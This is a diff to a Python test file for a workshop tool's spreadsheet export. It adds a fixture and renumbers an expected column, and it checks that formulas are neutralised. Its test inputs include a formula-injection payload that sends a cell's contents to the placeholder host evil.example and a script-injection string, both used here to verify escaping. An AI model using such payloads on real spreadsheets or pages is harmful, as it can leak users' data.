@@ -16,11 +16,27 @@ from openpyxl import load_workbook
 from live import sessions
 from live.models import ActivityRun, Response
 from tests.conftest import step_titled
+from tests.factories import make_workshop, step_with_activity
 from tests.live import answer
 from workshops.duplication import duplicate_step
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
 SCRIPT = "<script>alert('synthèse')</script>"
+BOARD = "Brainstorming sur les enjeux à l'échelle de l'écosystème"
+
+
+@pytest.fixture
+def workshop(facilitator):
+    """The tour de table, the governance vote and the idea board, titled as in the deck."""
+    workshop = make_workshop(
+        facilitator=facilitator,
+        title="Atelier de co-construction n°1",
+        venue="Centre social Nelly Roussel",
+    )
+    step_with_activity(workshop, "icebreaker", title="Tour de table & brise-glace")
+    step_with_activity(workshop, "vote")
+    step_with_activity(workshop, "ideas", title=BOARD)
+    return workshop
 
 
 @pytest.fixture
@@ -49,7 +65,7 @@ def played(live_session):
     answer(sam, vote, {"choices": [0]})
     answer(lou, vote, {"choices": [1]})
 
-    board = step_titled(session, "Brainstorming sur les enjeux à l'échelle de l'écosystème")
+    board = step_titled(session, BOARD)
     sessions.go_to_step(session=session, step=board)
     fonds = answer(alex, board, {"column": "economique", "text": "Un fonds local"})
     bus = answer(sam, board, {"column": "cohesion", "text": SCRIPT})
@@ -274,9 +290,9 @@ def test_the_xlsx_has_one_row_per_answer_with_formulas_neutralised(facilitator_c
     )
     # In the sheet per participant, the idea is a cell of its own: neutralised there too.
     ideas = list(workbook["Par participant·e"].iter_rows(values_only=True))
-    # Step 29: the copy of the vote came in as step 16.
+    # Step 4: the copy of the vote came in as step 3.
     column = ideas[0].index(
-        "Étape 29 · Brainstorming sur les enjeux à l'échelle de l'écosystème · Idées proposées"
+        "Étape 4 · Brainstorming sur les enjeux à l'échelle de l'écosystème · Idées proposées"
     )
     assert ideas[3][column] == "'" + HYPERLINK + " (Un enjeu de santé)"
     # No cell is a formula; times are real dates.
